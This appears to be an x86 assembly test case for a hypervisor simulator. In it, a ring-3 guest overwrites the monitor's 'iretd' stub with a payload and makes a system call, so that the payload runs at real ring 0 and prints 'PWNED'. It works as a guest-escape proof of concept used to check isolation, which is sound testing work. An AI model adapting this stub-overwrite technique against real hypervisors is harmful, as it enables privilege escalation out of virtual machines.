# stub_overwrite.S - ring 3 overwrites the monitor's iretd stub, then makes a system call.
#
# Under trap, hvsim enters the guest at every ring through a one-byte `iretd` at 0xFFC22000,
# run at real CPL 0. A ring-3 program copies a payload there and executes `int 0x80`; if the
# monitor then runs its stub, the payload runs at real ring 0: it reads CR0 (a privileged
# instruction that does not trap there), prints PWNED with its real CS RPL and exits 0x66.
# Before the call it reads the first dword back. On the bare machine 0xFFC22000 is unassigned:
# the copy goes nowhere, the read gives 0 and the system call is an ordinary one.

main:
    call hv_setup
    mov esi, s_name
    call puts
    mov eax, s_user
    mov ebx, SEL_UCODE
    mov ecx, 0x2
    mov edx, SEL_UDATA
    mov esi, hv_stack3_top
    jmp hv_enter_ring

s_user:
    mov eax, 1
    mov ebx, s_copy
    int 0x80
    mov esi, s_payload
    mov edi, 0xffc22000
    mov ecx, s_payload_end - s_payload
    .byte 0xf3, 0xa4                    # rep movsb (keystone rejects the mnemonic)
    mov eax, 0xffc22000
    mov ebx, dword ptr [eax]
    mov eax, 3
    mov esi, s_readback
    int 0x80
    mov eax, 1
    mov ebx, s_call
    int 0x80
    mov eax, 1
    mov ebx, s_back
    int 0x80
    mov eax, 2
    mov ebx, 0
    int 0x80

# Position-independent: every address it uses is absolute.
s_payload:
    mov eax, hv_escaped
    call eax
    mov eax, cr0
    mov esi, s_pwned
    mov eax, hv_print_cs
    call eax
    mov al, PWNED_EXIT
    mov edx, exit
    jmp edx
s_payload_end:

s_name:  .asciz "stub_overwrite\n"
s_copy:  .asciz "user: copying a payload over 0xffc22000\n"
s_readback: .asciz "user: 0xffc22000 now reads "
s_call:  .asciz "user: int 0x80 after the copy\n"
s_back:  .asciz "user: the system call returned to ring 3\n"
s_pwned: .asciz "PWNED: the payload at 0xffc22000 ran with real cs rpl "

.include "hostile.S"
